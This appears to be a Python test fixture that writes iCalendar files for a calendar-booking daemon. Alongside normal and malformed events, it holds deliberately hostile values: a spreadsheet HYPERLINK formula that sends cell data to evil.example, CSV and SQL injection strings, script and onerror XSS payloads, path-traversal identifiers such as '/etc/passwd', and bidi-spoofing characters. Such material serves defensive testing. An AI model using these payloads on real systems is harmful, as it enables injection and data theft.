"""Exports that make the daemon write each kind of answer, and values that are meant to break a report."""
import datetime

PASSWORD = "canary-4711-never-shown"
LONG = "long " * 200_000
HOSTILE = {
    "formula": "=HYPERLINK(\"http://evil.example/?\"&A1;\"pay\")",
    "plus": "+1+1", "minus": "-2+3", "at": "@SUM(A1)", "tab": "\t=1+1", "quote": "\"; DROP TABLE x; --",
    "script": "</script><script>document.title='owned'</script>",
    "image": "<img src=x onerror=\"document.title='owned'\">",
    "entity": "&lt;b&gt; ]]> <!-- --> <?xml?>",
    "control": "bell\x07 escape\x1b[31mred null-like\x01 delete\x7f next\x85line",
    "bidi": "report\u202egnp.exe \u2066isolate \u200bzero \ufeffmark",
    "separators": "line\u2028paragraph\u2029end",
    "emoji": "\U0001F469\u200d\U0001F4BB e\u0301 \U0010FFFF",
    "long": LONG,
}
UIDS = ["../../escape", "/etc/passwd", ".", "..", "-rf", "con", "a/b/../../c", "%2e%2e%2f", "x" * 5000, "=1+1", "ü‮"]


def fold(line):
    raw, lines = line.encode(), []
    while len(raw) > 73:
        cut = 73
        while raw[cut] & 0xC0 == 0x80:
            cut -= 1
        lines.append(raw[:cut])
        raw = raw[cut:]
    return b"\r\n ".join([*lines, raw])


def escape(text):
    return text.replace("\\", "\\\\").replace(";", "\\;").replace(",", "\\,").replace("\n", "\\n")


def calendar(*events):
    lines = ["BEGIN:VCALENDAR", "VERSION:2.0", "PRODID:-//read-back//EN"]
    for event in events:
        lines += ["BEGIN:VEVENT", *event, "END:VEVENT"]
    return b"\r\n".join(fold(line) for line in [*lines, "END:VCALENDAR", ""])


def event(uid, start, *more, room="blue", length="PT1H", owner=None, summary=None, created=None):
    lines = [f"UID:{escape(uid)}", "DTSTAMP:20261101T000000Z", f"LOCATION:{escape(room)}"]
    lines += [f"DTSTART:{start}"] if start else []
    lines += [f"DURATION:{length}"] if length else []
    lines += [f"ORGANIZER:mailto:{owner or 'ann'}@example.org", f"SUMMARY:{escape(summary or 'Meeting')}"]
    return [*lines, f"CREATED:{created or '20261101T000000Z'}", *more]


def write(folder, today, isolated=False):
    """Answers what the replies have to say: by UID, (RECURRENCE-ID, PARTSTAT, REQUEST-STATUS) of each answer."""
    folder.mkdir(parents=True)
    day = lambda number: (today + datetime.timedelta(days=20 + number)).strftime("%Y%m%d")
    at = lambda number, hour: f"{day(number)}T{hour:02}0000Z"
    plain = [
        event("granted", at(0, 9)),
        event("declined", at(0, 9), owner="ben", created="20261102T000000Z"),
        event("tentative", at(0, 12), "STATUS:TENTATIVE"),
        event("adjusted", at(0, 14), f"DTEND:{at(0, 15)}"),
        event("left-out", at(0, 16), "X-JITSI-MAX-OCCUPANTS:many"),
        event("weekly", at(1, 9), "RRULE:FREQ=WEEKLY;COUNT=3", owner="eve"),
        event("in-the-way", at(8, 9)),
        event("endless", at(2, 9), "RRULE:FREQ=WEEKLY"),
        event("bad-date", "20261399T250000Z"),
        event("bad-rule", at(3, 9), "RRULE:FREQ=WEEKLY;BYDAY=XX"),
        event("too-large", at(4, 9), "RRULE:FREQ=SECONDLY"),
        event("no-start", None),
        event("secret", at(5, 9), f"X-JITSI-PASSWORD:{PASSWORD}"),
    ]
    if isolated:  # without what depends on the day of the pass
        plain = [lines for lines in plain if lines[0] not in ("UID:endless", "UID:too-large")]
    (folder / "plain.ics").write_bytes(calendar(*plain))
    hostile = [
        event(
            f"{kind}-{name}", at(30 + index, 9), f"X-JITSI-PASSWORD:{PASSWORD}", summary=value, room=room, owner=owner)
        for index, (name, value) in enumerate(HOSTILE.items())
        for kind, room, owner in [("summary", "blue", "ann"), ("room", value[:200], "ben")]]
    rivals = [
        event(f"rival-{name}", at(30 + index, 9), summary=value, owner="rival", created="20261103T000000Z")
        for index, (name, value) in enumerate(HOSTILE.items())]
    odd = [event(uid, at(60 + index, 9)) for index, uid in enumerate(UIDS)]
    (folder / "hostile.ics").write_bytes(calendar(*hostile, *rivals))
    (folder / "uids.ics").write_bytes(calendar(*odd))
    (folder / "=cmd|' <b>.ics").write_bytes(calendar(event("named", at(90, 9)), event("named-bad", "x")))
    return {
        "granted": [("", "ACCEPTED", "2.0")], "declined": [("", "DECLINED", "4.0")],
        "tentative": [("", "TENTATIVE", "2.0")], "adjusted": [("", "ACCEPTED", "2.1")],
        "left-out": [("", "ACCEPTED", "2.2")], "endless": [("", "ACCEPTED", "2.11")],
        "weekly": [("", "ACCEPTED", "2.0"), (at(8, 9), "DECLINED", "4.0")],
        "bad-date": [("", "DECLINED", "3.5")], "bad-rule": [("", "DECLINED", "3.6")],
        "too-large": [("", "DECLINED", "3.10")], "no-start": [("", "DECLINED", "3.11")],
    }
